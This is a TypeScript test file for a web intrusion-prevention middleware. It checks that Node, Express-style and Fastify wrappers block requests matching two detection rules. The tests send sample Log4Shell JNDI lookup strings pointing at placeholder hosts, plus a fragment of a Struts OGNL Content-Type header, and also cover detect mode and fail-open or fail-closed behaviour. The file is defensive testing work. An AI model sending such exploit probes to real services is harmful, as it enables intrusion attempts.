import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { loadRuleSet, RECOMMENDED_BASE_CONFIG, type RuleSet } from '@palisade/seclang';
import Fastify from 'fastify';
import { type IpsMiddlewareOptions, ipsExpress, ipsFastify, ipsNodeHandler, type MiddlewareDetection } from './index.ts';

const rules = `SecRule ARGS|REQUEST_HEADERS "@rx \\$\\{jndi:" "id:9500050,phase:2,deny,status:403,t:none,t:urlDecodeUni,t:lowercase,msg:'log4shell',tag:'CVE-2021-44228'"
SecRule REQUEST_HEADERS:Content-Type "@rx [%$]\\{.*?(?:#|@)" "id:9500010,phase:1,deny,status:403,t:none,msg:'S2-045',tag:'CVE-2017-5638'"`;
let ruleSet: RuleSet;
before(() => {
  const r = loadRuleSet([
    { name: 'base', text: RECOMMENDED_BASE_CONFIG },
    { name: 'rules', text: rules },
  ]);
  assert.ok(r.ok);
  ruleSet = r.value;
});

function post(
  port: number,
  path: string,
  body: string,
  headers: Record<string, string> = { 'Content-Type': 'application/json' },
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const r = http.request(
      { host: '127.0.0.1', port, method: 'POST', path, headers: { ...headers, 'Content-Length': Buffer.byteLength(body) } },
      (res) => {
        let b = '';
        res.on('data', (c) => (b += c));
        res.on('end', () => resolve({ status: res.statusCode!, body: b }));
      },
    );
    r.on('error', reject);
    r.end(body);
  });
}

async function listen(server: http.Server): Promise<number> {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return (server.address() as AddressInfo).port;
}

const servers: { close(): unknown }[] = [];
after(() => {
  for (const s of servers) s.close();
});

/** An app that reads its body itself after the middleware: it must see every byte. */
function echoApp(req: http.IncomingMessage, res: http.ServerResponse): void {
  let b = '';
  req.on('data', (c) => (b += c));
  req.on('end', () => res.end(`got:${b}`));
}

test('node:http: exploit body blocked, benign body still readable by the app', async () => {
  const seen: MiddlewareDetection[] = [];
  const opts: IpsMiddlewareOptions = { ruleSet, onDetection: (d) => seen.push(d) };
  const server = http.createServer(ipsNodeHandler(echoApp, opts));
  servers.push(server);
  const port = await listen(server);
  const bad = await post(port, '/login', '{"user":"${jndi:ldap://x.example/a}"}');
  assert.equal(bad.status, 403);
  assert.equal(seen[0]?.ruleId, 9500050);
  assert.deepEqual(seen[0]?.tags, ['CVE-2021-44228']);
  const good = await post(port, '/login', '{"user":"alice","note":"héllo wörld"}');
  assert.equal(good.status, 200);
  assert.equal(good.body, 'got:{"user":"alice","note":"héllo wörld"}');
});

test('express-style middleware: next() only for clean requests; detect mode never blocks', async () => {
  const mw = ipsExpress({ ruleSet });
  const server = http.createServer((req, res) => mw(req, res, (err) => (err ? res.writeHead(500).end() : echoApp(req, res))));
  servers.push(server);
  const port = await listen(server);
  assert.equal((await post(port, '/upload', 'x', { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl)}" })).status, 403);
  assert.equal((await post(port, '/upload', 'plain text', { 'Content-Type': 'text/plain' })).body, 'got:plain text');
  const seen: MiddlewareDetection[] = [];
  const det = ipsExpress({ ruleSet, mode: 'detect', onDetection: (d) => seen.push(d) });
  const s2 = http.createServer((req, res) => det(req, res, () => echoApp(req, res)));
  servers.push(s2);
  const p2 = await listen(s2);
  assert.equal((await post(p2, '/x', '{"a":"${jndi:dns://x}"}')).status, 200);
  assert.equal(seen[0]?.action, 'detected');
});

test('fail-open and fail-closed on an engine that throws', async () => {
  const broken = { ...ruleSet, phases: null } as unknown as RuleSet;
  const open = http.createServer(ipsNodeHandler(echoApp, { ruleSet: broken, failMode: 'open' }));
  const closed = http.createServer(ipsNodeHandler(echoApp, { ruleSet: broken, failMode: 'closed' }));
  servers.push(open, closed);
  assert.equal((await post(await listen(open), '/', '{}')).status, 200);
  assert.equal((await post(await listen(closed), '/', '{}')).status, 503);
});

test('fastify: preParsing hook blocks exploits, the JSON parser still gets the body', async () => {
  const app = Fastify();
  ipsFastify(app, { ruleSet });
  app.post('/api', async (req) => ({ echoed: req.body }));
  await app.listen({ port: 0, host: '127.0.0.1' });
  servers.push({ close: () => app.close() });
  const port = (app.server.address() as AddressInfo).port;
  assert.equal((await post(port, '/api', '{"q":"${jndi:ldap://x/a}"}')).status, 403);
  const ok = await post(port, '/api', '{"q":"spring menu"}');
  assert.equal(ok.status, 200);
  assert.deepEqual(JSON.parse(ok.body), { echoed: { q: 'spring menu' } });
});
